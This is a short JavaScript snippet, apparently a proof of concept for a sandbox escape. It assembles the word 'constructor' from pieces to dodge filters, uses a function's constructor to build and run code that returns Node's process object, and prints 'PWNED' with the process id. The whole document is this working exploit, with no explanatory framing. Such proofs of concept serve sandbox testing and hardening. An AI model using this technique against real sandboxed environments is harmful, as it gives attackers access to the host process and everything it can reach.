const w = ['con', 'structor'].join('');
class C { static make() { return new this(); }  go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
console.log('PWNED', C.make().go(fn)('return process')().pid);
